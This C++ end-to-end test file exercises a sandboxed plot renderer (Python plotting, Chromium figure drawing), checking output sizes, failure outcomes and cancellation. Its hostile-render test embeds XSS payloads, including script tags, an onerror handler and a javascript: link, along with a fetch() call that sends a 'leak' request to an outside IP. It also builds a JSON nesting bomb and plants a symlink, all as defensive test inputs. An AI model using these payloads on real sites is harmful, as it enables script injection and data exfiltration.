// runs::Renderer end to end: a real sandbox Launcher (warm plot and figure zygotes) and a real
// FigureRenderer (Node + Chromium) on one io_context. One process serves every check (a zygote
// start costs seconds): the catalogue is rendered once, all requests submitted together, and the
// hostile and failing renders run in a second batch. Sizes are read from the PNG header.
#include <catch2/catch.hpp>

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <sstream>

#include <boost/asio/io_context.hpp>
#include <boost/asio/steady_timer.hpp>

#include "runs/render_job.hpp"
#include "runs/runtime.hpp"
#include "sandbox/config.hpp"
#include "sandbox/figure_renderer.hpp"
#include "sandbox/launcher.hpp"

namespace asio = boost::asio;
namespace fs = std::filesystem;
namespace runs = plotq::runs;
namespace sb = plotq::sandbox;
using Clock = std::chrono::steady_clock;

namespace {

struct TempDir {
  fs::path path;
  explicit TempDir(const char* prefix) {
    std::string t = (fs::temp_directory_path() / (std::string(prefix) + "XXXXXX")).string();
    REQUIRE(::mkdtemp(t.data()) != nullptr);
    path = t;
  }
  ~TempDir() {
    std::error_code ec;
    fs::remove_all(path, ec);
  }
};

std::string read_text(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

std::string catalogue(const std::string& spec, const std::string& library) {
  fs::path p = fs::path(PLOTQ_SOURCE_DIR) / "tests/catalogue/plots" / spec / "implementations/python" / (library + ".py");
  std::string text = read_text(p);
  REQUIRE(!text.empty());
  return text;
}

// The whole machine of a render: launcher with warm zygotes, figure renderer, Renderer.
struct World {
  TempDir tmp{"plotq-render-tmp-"};
  sb::Config launcher_config;
  asio::io_context io;
  std::unique_ptr<sb::Launcher> launcher;
  std::unique_ptr<sb::FigureRenderer> figures;
  std::unique_ptr<runs::Renderer> renderer;

  // zygotes: the warm modes to start and wait for (a case that needs none starts faster).
  explicit World(const std::vector<std::string>& zygotes) {
    // The default runs dir and lock dir: jobs cannot see a runs dir under /tmp, and launchers in
    // different processes reserve their uid blocks through the one shared lock dir (a private
    // lock dir lets two of them pick the same uids).
    sb::Config c = sb::config_from_env();
    c.warm_modes = {"plot", "figure"};
    c.sandbox_max_jobs = 2;  // two cores
    c.min_mem_available_mb = 256;
    launcher_config = c;
    launcher = std::make_unique<sb::Launcher>(io, c);
    REQUIRE(launcher->ready());
    if (!zygotes.empty()) launcher->prewarm();
    sb::FigureConfig fc = sb::figure_config_from_env();
    if (::geteuid() != 0) fc.figure_netns = false;
    figures = std::make_unique<sb::FigureRenderer>(io, fc);
    REQUIRE(figures->available());
    figures->start();
    runs::RenderConfig rc;
    rc.render_tmp_dir = tmp.path.string();
    renderer = std::make_unique<runs::Renderer>(io, *launcher, figures.get(), rc);
    auto until = Clock::now() + std::chrono::seconds(180);
    auto all_ready = [&] {
      for (const auto& z : zygotes)
        if (!launcher->zygote_ready(z)) return false;
      return true;
    };
    while (!all_ready() && Clock::now() < until) {
      if (io.stopped()) io.restart();
      io.run_one_for(std::chrono::milliseconds(100));
    }
    for (const auto& z : zygotes) {
      INFO("zygote " << z);
      REQUIRE(launcher->zygote_ready(z));
    }
  }

  // Draws one small figure: the figure renderer is then up, warm and idle.
  void warm_figures() {
    TempDir dir{"plotq-render-warm-"};
    ::chmod(dir.path.c_str(), 0711);
    std::ofstream(dir.path / "warm.json") << R"({"data": [{"type": "bar", "x": ["a"], "y": [1]}]})";
    bool done = false;
    sb::FigureResult got;
    figures->render((dir.path / "warm.json").string(), (dir.path / "warm.png").string(), 120, [&](sb::FigureResult r) {
      got = std::move(r);
      done = true;
    });
    auto until = Clock::now() + std::chrono::seconds(180);
    while (!done && Clock::now() < until) {
      if (io.stopped()) io.restart();
      io.run_one_for(std::chrono::milliseconds(20));
    }
    REQUIRE(done);
    INFO("warm-up draw: " << got.code << " " << got.detail);
    REQUIRE(got.ok);
  }

  ~World() {
    renderer.reset();
    figures.reset();
    launcher.reset();
  }

  runs::RenderRequest request(const std::string& id, const std::string& library, const std::string& source,
                              std::vector<std::string> themes = {"light"}, double timeout_s = 60) {
    runs::RenderRequest r;
    r.job_id = id;
    r.library = library;
    r.source = source;
    r.themes = std::move(themes);
    r.timeout_s = timeout_s;
    return r;
  }

  // Drives the loop until cond() holds or `seconds` pass; returns cond().
  bool drive_until(const std::function<bool()>& cond, double seconds) {
    auto until = Clock::now() + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(seconds));
    while (!cond() && Clock::now() < until) {
      if (io.stopped()) io.restart();
      io.run_one_for(std::chrono::milliseconds(10));
    }
    return cond();
  }

  // Files left in the Renderer's private dirs (a finished or cancelled render leaves none).
  std::size_t leftovers() const {
    std::size_t n = 0;
    std::error_code ec;
    for (const auto& dir : fs::directory_iterator(tmp.path, ec))
      for (const auto& f : fs::directory_iterator(dir.path(), ec)) (void)f, ++n;
    return n;
  }

  // Starts one render; its answer lands in *result and sets *done.
  runs::RenderHandle start(const runs::RenderRequest& req, runs::RenderResult* result, bool* done) {
    return renderer->render(req, [result, done](runs::RenderResult r) {
      *result = std::move(r);
      *done = true;
    });
  }

  // Submits every request at once and drives the loop until all answered. `during` runs on each
  // turn of the loop (tests use it to act while a render runs).
  std::map<std::string, runs::RenderResult> render_all(const std::vector<runs::RenderRequest>& requests,
                                                       std::function<void()> during = nullptr) {
    std::map<std::string, runs::RenderResult> got;
    std::size_t calls = 0;
    for (const auto& r : requests) {
      std::string id = r.job_id;
      renderer->render(r, [&got, &calls, id](runs::RenderResult res) {
        got[id] = std::move(res);
        ++calls;
      });
    }
    auto until = Clock::now() + std::chrono::seconds(300);
    while (calls < requests.size() && Clock::now() < until) {
      if (io.stopped()) io.restart();
      io.run_one_for(std::chrono::milliseconds(20));
      if (during) during();
    }
    REQUIRE(calls == requests.size());
    return got;
  }
};

// One World per process (ctest runs each case in its own): made by the first call.
World& world(const std::vector<std::string>& zygotes = {"plot", "figure"}) {
  static World w(zygotes);
  return w;
}

const runs::ThemeRun& theme_of(const std::map<std::string, runs::RenderResult>& got, const std::string& id,
                               const std::string& theme) {
  INFO("request " << id << " theme " << theme);
  REQUIRE(got.count(id) == 1);
  REQUIRE(got.at(id).outputs.count(theme) == 1);
  return got.at(id).outputs.at(theme);
}

void check_png(const runs::ThemeRun& r, int width, int height) {
  INFO("theme " << r.theme << " outcome " << r.outcome << ": " << r.message << " stderr: " << r.job.stderr_tail);
  REQUIRE(r.outcome == runs::Outcome::ok);
  REQUIRE(r.png);
  auto size = runs::png_size(*r.png);  // the size as the PNG header says, not as anyone reported it
  REQUIRE(size);
  CHECK(size->first == width);
  CHECK(size->second == height);
  CHECK(r.width == width);
  CHECK(r.height == height);
  CHECK(r.png->size() <= runs::kMaxPngBytes);
  CHECK(r.exit_code == 0);
}

// A figure with markup, a script and external URLs in every place a figure can carry text.
const char* kHostileFigure = R"PY(import os
import plotly.graph_objects as go
THEME = os.getenv("ANYPLOT_THEME", "light")
url = "http://198.51.100.7/collect?leak=1"
fig = go.Figure(go.Scatter(x=[1, 2, 3], y=[2, 1, 3], text=["<img src=x onerror=alert(1)>"] * 3,
                           hovertemplate="<script>fetch('" + url + "')</script>"))
fig.update_layout(title="<script>document.title='pwned'</script><a href='javascript:alert(1)'>x</a>",
                  images=[{"source": url, "xref": "paper", "yref": "paper", "x": 0, "y": 1,
                           "sizex": 0.2, "sizey": 0.2}])
fig.add_annotation(text="<iframe src='" + url + "'></iframe>", x=2, y=2)
fig.write_image(f"plot-{THEME}.png")
)PY";

// A figure JSON nested 100,000 deep, written by the plot itself (its one writable file).
const char* kJsonBomb = R"PY(import os
THEME = os.getenv("ANYPLOT_THEME", "light")
with open(f"plot-{THEME}.json", "w") as f:
    f.write('{"data": [' + "[" * 100000 + "]" * 100000 + ']}')
)PY";

// 17 MiB of figure JSON: over the output cap.
const char* kJsonTooLarge = R"PY(import os
THEME = os.getenv("ANYPLOT_THEME", "light")
with open(f"plot-{THEME}.json", "w") as f:
    f.write('{"data": [{"type": "scatter", "y": [' + "1," * (17 * 1024 * 512) + '1]}]}')
)PY";

// Sleeps while the test plants a link in its work dir, then ends without writing.
const char* kWaitForLink = R"PY(# SYMLINK-PLANT-7731
import time
time.sleep(6)
)PY";

const char* kSleeper = R"PY(import time
time.sleep(60)
)PY";

const char* kSecondFile = R"PY(import matplotlib.pyplot as plt
fig, ax = plt.subplots(figsize=(16, 9), dpi=200)
fig.savefig("plot-light.png", dpi=200)
fig.savefig("second.png")
)PY";

const char* kDataCsv = R"PY(import os
import matplotlib.pyplot as plt
import pandas as pd
THEME = os.getenv("ANYPLOT_THEME", "light")
frame = pd.read_csv("data.csv")
fig, ax = plt.subplots(figsize=(16, 9), dpi=200)
ax.bar(frame["name"], frame["value"])
fig.savefig(f"plot-{THEME}.png", dpi=200)
)PY";

}  // namespace

TEST_CASE("real renders of the catalogue, light and dark, at their exact sizes", "[e2e]") {
  World& w = world();
  std::vector<runs::RenderRequest> reqs = {
      w.request("line", "matplotlib", catalogue("line-basic", "matplotlib"), {"light", "dark"}),
      w.request("bar", "matplotlib", catalogue("bar-basic", "matplotlib"), {"light", "dark"}),
      w.request("heatmap", "seaborn", catalogue("heatmap-basic", "seaborn"), {"light", "dark"}),
      w.request("pscatter", "plotly", catalogue("scatter-basic", "plotly"), {"light", "dark"}),
      w.request("psubplots", "plotly", catalogue("subplots-basic", "plotly"), {"light", "dark"}),
      w.request("pie", "matplotlib", catalogue("pie-square", "matplotlib")),
      w.request("histogram", "matplotlib", catalogue("histogram-basic", "matplotlib")),
      w.request("scatter", "matplotlib", catalogue("scatter-basic", "matplotlib")),
      w.request("sscatter", "seaborn", catalogue("scatter-basic", "seaborn")),
      w.request("violin", "seaborn", catalogue("violin-basic", "seaborn")),
      w.request("attribute", "matplotlib", catalogue("fail-attribute", "matplotlib")),
      w.request("missing-library", "matplotlib", catalogue("fail-missing-library", "matplotlib")),
      w.request("value-error", "seaborn", catalogue("fail-value-error", "seaborn")),
      w.request("no-output", "matplotlib", catalogue("fail-no-output", "matplotlib")),
      w.request("wrong-size", "matplotlib", catalogue("canvas-off", "matplotlib")),
  };
  auto got = w.render_all(reqs);

  for (const char* id : {"line", "bar", "heatmap", "pscatter", "psubplots"}) {
    const auto& light = theme_of(got, id, "light");
    const auto& dark = theme_of(got, id, "dark");
    check_png(light, 3200, 1800);
    check_png(dark, 3200, 1800);
    if (light.png && dark.png) CHECK(*light.png != *dark.png);  // the theme reached the plot
  }
  for (const char* id : {"pscatter", "psubplots"}) {
    const auto& r = theme_of(got, id, "light");
    CHECK(r.mode == runs::RenderMode::figure);
    CHECK(r.job.warm);  // the plot step forked from the figure zygote
    CHECK(r.draw_s > 0);
    CHECK(r.draw_s < r.wall_s + 120);
  }
  check_png(theme_of(got, "pie", "light"), 2400, 2400);
  for (const char* id : {"histogram", "scatter", "sscatter", "violin"}) check_png(theme_of(got, id, "light"), 3200, 1800);

  const auto& attribute = theme_of(got, "attribute", "light");
  CHECK(attribute.outcome == runs::Outcome::plot_error);
  CHECK(attribute.error_class == "AttributeError");
  CHECK(attribute.error_line == 8);
  CHECK(attribute.exit_code == 30);
  CHECK(attribute.message == "The plot raised AttributeError at line 8.");
  CHECK(theme_of(got, "missing-library", "light").error_class == "ModuleNotFoundError");
  CHECK(theme_of(got, "value-error", "light").error_class == "ValueError");

  const auto& none = theme_of(got, "no-output", "light");
  CHECK(none.outcome == runs::Outcome::no_output);
  CHECK(none.exit_code == 0);
  CHECK_FALSE(none.png);

  // Off the canvas is a render now (issue 14), answered with its size.
  const auto& wrong = theme_of(got, "wrong-size", "light");
  CHECK(wrong.outcome == runs::Outcome::ok);
  CHECK(wrong.canvas == "off");
  CHECK(wrong.width == 800);
  CHECK(wrong.height == 600);
  CHECK(wrong.png);
  CHECK(wrong.message.find("800x600") != std::string::npos);
  CHECK(theme_of(got, "line", "light").canvas == "exact");
  CHECK(theme_of(got, "pscatter", "light").canvas == "exact");
}

TEST_CASE("a library the runtime does not hold is runtime_unavailable before any sandbox starts", "[e2e]") {
  World& w = world({});
  // The installed runtime, less bokeh; and one whose manifest could not be read.
  auto real = std::make_shared<runs::Runtime>(runs::read_runtime(w.launcher_config.python));
  REQUIRE(real->known());
  auto no_bokeh = std::make_shared<runs::Runtime>(*real);
  no_bokeh->packages.erase("bokeh");
  auto unknown = std::make_shared<runs::Runtime>();
  unknown->error = "manifest_missing";
  runs::RenderConfig rc;
  rc.render_tmp_dir = w.tmp.path.string();
  for (auto [rt, library] : {std::pair{no_bokeh, "bokeh"}, std::pair{unknown, "matplotlib"}}) {
    INFO(library);
    runs::Renderer r(w.io, *w.launcher, w.figures.get(), rc, rt);
    CHECK(r.support(library) == runs::Outcome::runtime_unavailable);
    bool done = false;
    runs::RenderResult result;
    r.render(w.request("absent", library, "x = 1\n"), [&](runs::RenderResult got) {
      result = std::move(got);
      done = true;
    });
    REQUIRE(w.drive_until([&] { return done; }, 30));
    const auto& t = result.outputs.at("light");
    CHECK(t.outcome == runs::Outcome::runtime_unavailable);
    CHECK(t.job.attempts == 0);
  }
  // The same Renderer with the real runtime serves bokeh (figure mode, drawn by Chromium).
  runs::Renderer full(w.io, *w.launcher, w.figures.get(), rc, real);
  CHECK(full.support("bokeh") == runs::Outcome::ok);
  CHECK(full.support("lets-plot") == runs::Outcome::ok);
}

TEST_CASE("hostile and failing renders end with their own outcome", "[e2e]") {
  World& w = world();
  std::vector<runs::RenderRequest> reqs = {
      w.request("hostile-figure", "plotly", kHostileFigure),
      w.request("bomb", "plotly", kJsonBomb),
      w.request("json-too-large", "plotly", kJsonTooLarge),
      w.request("planted-link", "plotly", kWaitForLink, {"light"}, 30),
      w.request("second-file", "matplotlib", kSecondFile),
      w.request("timeout", "matplotlib", kSleeper, {"light"}, 3),
      w.request("unknown", "ggplot", "x = 1\n"),
      w.request("bad-theme", "matplotlib", "x = 1\n", {"light", "light"}),
  };
  runs::RenderRequest with_data = w.request("data", "matplotlib", kDataCsv);
  with_data.data_csv = "name,value\na,3\nb,5\n";
  reqs.push_back(with_data);

  // The link target is a valid figure: had the host followed the link, the render would succeed.
  TempDir outside{"plotq-render-outside-"};
  fs::path target = outside.path / "figure.json";
  std::ofstream(target) << R"({"data": [{"type": "bar", "x": ["a"], "y": [1]}]})";
  bool planted = false;
  auto plant = [&] {
    if (planted) return;
    std::error_code ec;
    for (const auto& entry : fs::directory_iterator(w.launcher_config.runs_dir, ec)) {
      fs::path plot = entry.path() / "plot.py";
      if (read_text(plot).find("SYMLINK-PLANT-7731") == std::string::npos) continue;
      fs::create_symlink(target, entry.path() / "plot-light.json", ec);
      planted = !ec;
    }
  };
  auto got = w.render_all(reqs, plant);
  REQUIRE(planted);

  const auto& hostile = theme_of(got, "hostile-figure", "light");
  INFO(hostile.message << " " << hostile.figure_code.value_or(""));
  check_png(hostile, 3200, 1800);  // drawn as data: nothing ran, nothing was fetched (figure tests)

  const auto& bomb = theme_of(got, "bomb", "light");
  CHECK(bomb.outcome == runs::Outcome::figure_invalid);
  CHECK(bomb.figure_code == "figure_too_deep");
  CHECK(bomb.exit_code == 0);
  CHECK_FALSE(bomb.png);

  const auto& big = theme_of(got, "json-too-large", "light");
  CHECK(big.outcome == runs::Outcome::output_too_large);
  const auto cap = static_cast<double>(sb::FigureConfig{}.figure_max_bytes);  // PLOTQ_FIGURE_MAX_BYTES' default
  CHECK(big.limit == cap);
  CHECK(big.measured.value_or(0) > cap);
  CHECK(big.message == "The figure is larger than 16 MiB.");

  const auto& link = theme_of(got, "planted-link", "light");
  CHECK(link.outcome == runs::Outcome::output_rejected);
  CHECK_FALSE(link.png);
  CHECK(link.job.message.find("plot-light.json") != std::string::npos);

  // A second file in the work dir is allowed now (issue 14: what a file writes in its own work dir
  // stays allowed within the disk caps; only plot-<theme>.png is collected). It was guard_refused.
  const auto& second = theme_of(got, "second-file", "light");
  CHECK(second.outcome == runs::Outcome::ok);
  CHECK(second.exit_code == 0);
  check_png(second, 3200, 1800);

  const auto& slow = theme_of(got, "timeout", "light");
  CHECK(slow.outcome == runs::Outcome::timeout);
  CHECK(slow.timed_out);
  CHECK_FALSE(slow.exit_code);

  CHECK(theme_of(got, "unknown", "light").outcome == runs::Outcome::invalid_library);
  CHECK(theme_of(got, "unknown", "light").job.attempts == 0);  // no sandbox started
  CHECK(theme_of(got, "bad-theme", "light").outcome == runs::Outcome::invalid_request);
  check_png(theme_of(got, "data", "light"), 3200, 1800);
}

TEST_CASE("cancel kills the running theme, skips the next, and draws nothing after the plot step", "[e2e]") {
  World& w = world();
  bool done = false;
  runs::RenderResult result;
  auto req = w.request("cancel-me", "matplotlib", kSleeper, {"light", "dark"}, 60);
  runs::RenderHandle handle = w.start(req, &result, &done);
  CHECK_FALSE(handle.done());
  // Cancel once the sandbox job is running (its process exists).
  w.drive_until([&] { return w.launcher->running() > 0; }, 60);
  REQUIRE(w.launcher->running() == 1);
  auto t0 = Clock::now();
  handle.cancel();
  REQUIRE(w.drive_until([&] { return done; }, 30));
  CHECK(std::chrono::duration<double>(Clock::now() - t0).count() < 10);
  CHECK(handle.done());
  REQUIRE(result.outputs.size() == 2);
  CHECK(result.outputs.at("light").outcome == runs::Outcome::cancelled);
  CHECK(result.outputs.at("light").job.attempts >= 1);  // it ran and was killed
  CHECK(result.outputs.at("dark").outcome == runs::Outcome::cancelled);
  CHECK(result.outputs.at("dark").job.attempts == 0);  // never started
  CHECK(w.launcher->running() == 0);

  // Cancelled after the plot step: the figure is not drawn, its files are removed.
  done = false;
  result = {};
  req = w.request("cancel-figure", "plotly", catalogue("scatter-basic", "plotly"), {"light", "dark"}, 60);
  handle = w.start(req, &result, &done);
  // Cancel on the first turn of the loop after the light plot step's process is gone: the step
  // is either answering or its figure is being drawn.
  bool seen_running = false, cancelled = false;
  auto until = Clock::now() + std::chrono::seconds(120);
  while (!done && Clock::now() < until) {
    if (w.io.stopped()) w.io.restart();
    w.io.run_one_for(std::chrono::milliseconds(5));
    if (w.launcher->running() > 0) seen_running = true;
    if (seen_running && !cancelled && w.launcher->running() == 0) {
      handle.cancel();
      cancelled = true;
    }
  }
  REQUIRE(done);
  REQUIRE(cancelled);
  CHECK(result.outputs.at("light").outcome == runs::Outcome::cancelled);
  CHECK_FALSE(result.outputs.at("light").png);
  CHECK(result.outputs.at("light").exit_code == 0);  // the plot step itself had finished
  CHECK(result.outputs.at("dark").outcome == runs::Outcome::cancelled);
  CHECK(result.outputs.at("dark").job.attempts == 0);
  // The dropped draw still answers later; its JSON and PNG are removed then.
  auto settle = Clock::now() + std::chrono::seconds(20);
  while (w.leftovers() > 0 && Clock::now() < settle) {
    if (w.io.stopped()) w.io.restart();
    w.io.run_one_for(std::chrono::milliseconds(50));
  }
  CHECK(w.leftovers() == 0);
}

namespace {

// A scatter of 300,000 SVG markers: drawing it takes Chromium many seconds, so a cancel lands
// while the page is still drawing.
std::string heavy_figure_json() {
  std::string x, y;
  for (int i = 0; i < 300000; ++i) {
    if (i) x += ',', y += ',';
    x += std::to_string(i);
    y += std::to_string((static_cast<long long>(i) * 7919) % 1000);
  }
  return R"({"data": [{"type": "scatter", "mode": "markers", "x": [)" + x + "], \"y\": [" + y + "]}]}";
}

const char* kHeavyPlotly = R"PY(import os
import numpy as np
import plotly.graph_objects as go
THEME = os.getenv("ANYPLOT_THEME", "light")
n = 300000
fig = go.Figure(go.Scatter(x=np.arange(n), y=(np.arange(n) * 7919) % 1000, mode="markers"))
fig.write_image(f"plot-{THEME}.png")
)PY";

bool path_exists(const fs::path& p) {
  std::error_code ec;
  return fs::exists(fs::symlink_status(p, ec));
}

}  // namespace

TEST_CASE("FigureRenderer cancel closes the page of a figure being drawn and the renderer serves on", "[e2e][cancel]") {
  World& w = world({});  // no sandbox jobs here
  TempDir dir{"plotq-render-cancel-"};
  ::chmod(dir.path.c_str(), 0711);
  const fs::path small = dir.path / "small.json", heavy = dir.path / "heavy.json";
  std::ofstream(small) << R"({"data": [{"type": "bar", "x": ["a", "b"], "y": [1, 2]}]})";
  std::ofstream(heavy) << heavy_figure_json();

  auto draw = [&](const fs::path& figure, const fs::path& out, double timeout_s, sb::FigureResult* got, bool* done) {
    return w.figures->render(figure.string(), out.string(), timeout_s, [got, done](sb::FigureResult r) {
      *got = std::move(r);
      *done = true;
    });
  };
  auto drive_until = [&](const std::function<bool()>& cond, double seconds) { return w.drive_until(cond, seconds); };

  // Draws the small figure to `out` and waits for its answer.
  auto draw_small = [&](const fs::path& out, double wait_s) {
    sb::FigureResult got;
    bool done = false;
    draw(small, out, 60, &got, &done);
    REQUIRE(drive_until([&] { return done; }, wait_s));
    return got;
  };

  // A first figure: the renderer is up and warm.
  sb::FigureResult first = draw_small(dir.path / "small.png", 120);
  INFO("first draw: " << first.code << " " << first.detail);
  REQUIRE(first.ok);
  const auto starts = w.figures->starts();
  const auto in_flight = w.figures->cancels_in_flight();
  const auto acknowledged = w.figures->cancels_acknowledged();

  // The heavy figure, cancelled once its page began the draw (it has 60 s): answered `cancelled`
  // at once.
  sb::FigureResult heavy_result;
  bool heavy_done = false;
  const fs::path heavy_png = dir.path / "heavy.png";
  const auto drawn = w.figures->draws_begun();
  std::uint64_t id = draw(heavy, heavy_png, 60, &heavy_result, &heavy_done);
  REQUIRE(drive_until([&] { return heavy_done || w.figures->draws_begun() > drawn; }, 60));
  REQUIRE_FALSE(heavy_done);  // still drawing
  auto t0 = Clock::now();
  w.figures->cancel(id);
  REQUIRE(drive_until([&] { return heavy_done; }, 5));
  CHECK(std::chrono::duration<double>(Clock::now() - t0).count() < 1);
  CHECK_FALSE(heavy_result.ok);
  CHECK(heavy_result.code == "cancelled");
  CHECK(w.figures->cancels_in_flight() == in_flight + 1);
  // The renderer closed the page and let go of the job (not killed: no new renderer started).
  REQUIRE(drive_until([&] { return w.figures->cancels_acknowledged() == acknowledged + 1; }, 10));
  CHECK(w.figures->starts() == starts);

  // The next figure draws on the same renderer; the cancelled one never wrote its PNG.
  sb::FigureResult next = draw_small(dir.path / "next.png", 60);
  INFO("next draw: " << next.code << " " << next.detail);
  CHECK(next.ok);
  CHECK(w.figures->starts() == starts);
  CHECK_FALSE(path_exists(heavy_png));

  // A queued job cancelled before it is sent answers `cancelled` and is never drawn; an unknown
  // or finished id is ignored.
  sb::FigureResult queued_a, queued_b;
  bool a_done = false, b_done = false;
  const fs::path a_png = dir.path / "a.png", b_png = dir.path / "b.png";
  draw(small, a_png, 60, &queued_a, &a_done);  // sent at once: b waits behind it
  std::uint64_t b = draw(small, b_png, 60, &queued_b, &b_done);
  w.figures->cancel(b);
  w.figures->cancel(id);          // answered already
  w.figures->cancel(id + 100000);  // never existed
  REQUIRE(drive_until([&] { return a_done && b_done; }, 60));
  CHECK(queued_b.code == "cancelled");
  INFO("a: " << queued_a.code << " " << queued_a.detail);
  CHECK(queued_a.ok);
  CHECK(path_exists(a_png));
  CHECK_FALSE(path_exists(b_png));
  CHECK(w.figures->starts() == starts);
}

TEST_CASE("a render cancelled while Chromium draws its figure stops the draw", "[e2e][cancel]") {
  World& w = world({"figure"});
  w.warm_figures();  // the draw must be sent to a ready renderer, not wait for its start
  const auto in_flight = w.figures->cancels_in_flight();
  const auto acknowledged = w.figures->cancels_acknowledged();
  const auto starts = w.figures->starts();
  bool done = false;
  runs::RenderResult result;
  auto req = w.request("cancel-draw", "plotly", kHeavyPlotly, {"light", "dark"}, 90);
  const auto drawn = w.figures->draws_begun();
  runs::RenderHandle handle = w.start(req, &result, &done);
  // The draw has begun once the renderer says so (its page began the light theme's figure).
  REQUIRE(w.drive_until([&] { return done || w.figures->draws_begun() > drawn; }, 120));
  REQUIRE_FALSE(done);
  auto t0 = Clock::now();
  handle.cancel();
  REQUIRE(w.drive_until([&] { return done; }, 10));
  CHECK(std::chrono::duration<double>(Clock::now() - t0).count() < 1);
  CHECK(result.outputs.at("light").outcome == runs::Outcome::cancelled);
  CHECK(result.outputs.at("light").exit_code == 0);  // its plot step had finished
  CHECK_FALSE(result.outputs.at("light").png);
  CHECK(result.outputs.at("dark").outcome == runs::Outcome::cancelled);
  CHECK(result.outputs.at("dark").job.attempts == 0);
  // The draw itself was stopped: the renderer acknowledged the cancel (page closed) and was not
  // replaced; the figure files are removed.
  CHECK(w.figures->cancels_in_flight() == in_flight + 1);
  w.drive_until([&] { return w.figures->cancels_acknowledged() >= acknowledged + 1; }, 10);
  CHECK(w.figures->cancels_acknowledged() == acknowledged + 1);
  CHECK(w.figures->starts() == starts);
  w.drive_until([&] { return w.leftovers() == 0; }, 10);
  CHECK(w.leftovers() == 0);
}
